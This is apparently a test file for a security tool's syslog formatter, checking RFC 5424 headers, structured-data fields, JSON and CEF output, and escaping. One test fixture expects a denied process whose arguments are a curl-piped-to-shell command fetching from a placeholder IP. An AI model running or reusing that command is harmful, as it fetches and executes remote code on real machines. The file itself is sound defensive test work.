import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { examples } from "../../examples.ts";
import { messageOf, type Manner } from "./message.ts";

const origin = { host: "node-1", cluster: "prod", version: "0.1.0" };
const manner: Manner = {
  ...{ format: "rfc5424", facility: "authpriv", sdId: "pahlevan@32473", appName: "pahlevan" },
};
const time = "2026-11-22T14:03:07.123456789Z";
const [decision, , transition] = examples(time);

/** RFC 5424's grammar (6), word for word; it throws on what is not in it. */
function parsed(message: string) {
  const printable = "[\\x21-\\x7e]";
  const header = new RegExp(
    `^<(\\d{1,3})>1 (\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?Z) (${printable}{1,255}) ` +
      `(${printable}{1,48}) (${printable}{1,128}) (${printable}{1,32}) `,
  ).exec(message);
  if (header === null) throw new Error(`no header: ${message.slice(0, 80)}`);
  const [whole, priority = "", stamp, host, app, process, id] = header;
  const rest = message.slice(whole.length);
  const element = /^\[([^=\s\]"]{1,32})((?: [^=\s\]"]{1,32}="(?:\\["\\\]]|[^"\\\]])*")*)\]/u.exec(
    rest,
  );
  if (element === null && !rest.startsWith("- ")) throw new Error(`no data: ${rest.slice(0, 80)}`);
  const [data = "-", sdId, text = ""] = element ?? [];
  const fields: Record<string, string> = {};
  for (const [, name = "", value = ""] of text.matchAll(/ ([^=]+)="((?:\\.|[^"\\\]])*)"/gsu)) {
    if (name in fields) throw new Error(`${name} is there twice`);
    fields[name] = value.replaceAll(/\\(.)/gu, "$1");
  }
  const said = rest.slice(data.length + 1);
  return { priority: Number(priority), stamp, host, app, process, id, sdId, fields, said };
}

describe("a syslog message", () => {
  it("has the facility and the severity in its priority, and says when, where and what", () => {
    expect(parsed(messageOf(decision!, origin, manner))).toMatchObject({
      priority: 10 * 8 + 3,
      stamp: "2026-11-22T14:03:07.123456Z",
      ...{ host: "node-1", app: "pahlevan", process: "-", id: "decision" },
    });
    const local = { ...manner, facility: "local7" } as const;
    expect(parsed(messageOf(transition!, origin, local))).toMatchObject({ priority: 23 * 8 + 2 });
  });

  it("has the record's fields as structured data", () => {
    const { sdId, fields } = parsed(messageOf(decision!, origin, manner));
    expect(sdId).toBe("pahlevan@32473");
    expect(fields).toMatchObject({
      ...{ id: "example-1", event: "pahlevan.decision", time, action: "deny", generation: "7" },
      ...{ "process.exe": "/bin/sh", "process.parent.pid": "4200", "container.name": "checkout" },
      "process.args": '["sh","-c","curl \\"http://203.0.113.9/x\\" | sh"]',
      ...{ host: "node-1", cluster: "prod", "trace.traceId": decision!.trace!.traceId },
    });
  });

  it("ends with a sentence, marked as UTF-8", () => {
    const { said } = parsed(messageOf(decision!, origin, manner));
    expect(said).toMatch(/^\uFEFFshop\/checkout: denied exec \/usr\/bin\/curl by \/bin\/sh \(/);
  });

  it("is one JSON object, or CEF, where that is wished", () => {
    const { said } = parsed(messageOf(decision!, origin, { ...manner, format: "json" }));
    expect(JSON.parse(said)).toEqual({ ...decision, host: "node-1", cluster: "prod" });
    const asCef = parsed(messageOf(decision!, origin, { ...manner, format: "cef" }));
    expect(asCef.said).toMatch(/^CEF:0\|Pahlevan\|/);
  });

  it("is one line, and read back whole, whatever a workload calls its files", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200, unit: "binary" }), (name) => {
        const object = `/x"]\\${name}x`;
        const message = messageOf({ ...decision!, ...{ object, kind: "exec" } }, origin, manner);
        if (/[\u0000-\u001f\u007f]/.test(message)) return false;
        const shown = object.replaceAll(/[\u0000-\u001f\u007f]/g, (sign) => {
          return `\\x${sign.charCodeAt(0).toString(16).padStart(2, "0")}`;
        });
        return parsed(message).fields["object"] === shown;
      }),
    );
  });

  it("has a host's name in ASCII without spaces, and a dash for none", () => {
    const named = (host: string) => parsed(messageOf(decision!, { ...origin, host }, manner)).host;
    expect(named("knöten 1")).toBe("kn_ten_1");
    expect(named("")).toBe("-");
    expect(named("x".repeat(300))).toHaveLength(255);
  });
});
